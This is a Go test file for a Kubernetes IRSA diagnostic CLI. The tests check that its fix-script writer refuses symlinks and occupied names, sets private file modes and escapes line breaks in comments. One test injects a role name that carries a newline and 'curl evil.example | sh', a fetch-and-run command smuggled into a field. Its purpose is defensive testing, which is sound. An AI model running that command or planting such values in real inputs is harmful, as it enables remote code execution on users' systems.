package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/irsa-doctor/irsa-doctor/internal/finding"
)

const fixExample = "../../examples/trust-subject-mismatch"

// TestFixDirDoesNotFollowSymlinks: a link planted in the folder under a
// name the tool writes (fix.sh, a corrected policy) is refused with one
// line naming it, and the file it points to, outside the folder, is left
// as it was (issue 9).
func TestFixDirDoesNotFollowSymlinks(t *testing.T) {
	for _, name := range []string{"fix.sh", "payments-s3-reader.trust-policy.json"} {
		t.Run(name, func(t *testing.T) {
			outside := filepath.Join(t.TempDir(), "victim")
			if err := os.WriteFile(outside, []byte("keep me\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			dir := filepath.Join(t.TempDir(), "fixes")
			if err := os.Mkdir(dir, 0o700); err != nil {
				t.Fatal(err)
			}
			link := filepath.Join(dir, name)
			if err := os.Symlink(outside, link); err != nil {
				t.Fatal(err)
			}
			r := runCLI(t, "", "analyze", fixExample, "--fix-dir", dir, "-o", "json")
			if r.code != ExitUsage {
				t.Errorf("exit %d, want %d", r.code, ExitUsage)
			}
			oneLineErr(t, r, "refusing to write "+link+": it is a symbolic link, which the tool does not follow; use an empty folder")
			if got, err := os.ReadFile(outside); err != nil || string(got) != "keep me\n" {
				t.Errorf("the link's target outside the folder changed: %q, %v", got, err)
			}
			if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
				t.Errorf("the link was replaced: %v, %v", fi, err)
			}
		})
	}
}

// TestFixDirModes: the folder is private (0700), the files 0600 and fix.sh
// 0700; a second run replaces the regular files of the first.
func TestFixDirModes(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "fixes")
	for run := range 2 {
		r := runCLI(t, "", "analyze", fixExample, "--fix-dir", dir, "-o", "json")
		if r.code != ExitFindings {
			t.Fatalf("run %d: exit %d: %s", run+1, r.code, r.stderr)
		}
		for name, want := range map[string]os.FileMode{
			".":                                    0o700 | os.ModeDir,
			"fix.sh":                               0o700,
			"payments-s3-reader.trust-policy.json": 0o600,
		} {
			fi, err := os.Lstat(filepath.Join(dir, name))
			if err != nil {
				t.Fatal(err)
			}
			if fi.Mode() != want {
				t.Errorf("run %d: %s has mode %v, want %v", run+1, name, fi.Mode(), want)
			}
		}
	}
}

// TestFixDirRefusesAFolderInTheWay: a folder under a name the tool writes
// is not a previous run's file: refused, not removed.
func TestFixDirRefusesAFolderInTheWay(t *testing.T) {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "fix.sh"), 0o700); err != nil {
		t.Fatal(err)
	}
	r := runCLI(t, "", "analyze", fixExample, "--fix-dir", dir, "-o", "json")
	oneLineErr(t, r, "refusing to write "+filepath.Join(dir, "fix.sh")+": it exists and is not a regular file; use an empty folder")
}

// TestFixScriptCommentsCarryNoLineBreak: a subject named with a line break
// (a bundle can say anything) stays inside its comment in fix.sh instead of
// becoming a command.
func TestFixScriptCommentsCarryNoLineBreak(t *testing.T) {
	dir := t.TempDir()
	res := &finding.Result{Findings: []finding.Finding{{
		CheckID: "IRSA205", Slug: "trust-subject-mismatch", Status: finding.StatusFail,
		Subject: finding.Subject{Kind: "IAMRole", Name: "r\ncurl evil.example | sh\r\x1b[2J"},
		Fix:     &finding.Fix{},
	}}}
	res.Findings[0].Fix.AddStep(finding.Step{Argv: []string{"aws", "iam", "get-role", "--role-name", "r"}})
	if _, err := writeFixDir(dir, res); err != nil {
		t.Fatal(err)
	}
	script, err := os.ReadFile(filepath.Join(dir, "fix.sh"))
	if err != nil {
		t.Fatal(err)
	}
	want := "\n# IRSA205 trust-subject-mismatch: IAMRole r\\ncurl evil.example | sh\\r\\x1b[2J\naws iam get-role --role-name r\n"
	if !strings.HasSuffix(string(script), want) {
		t.Errorf("fix.sh = %q, want it to end with %q", script, want)
	}
}
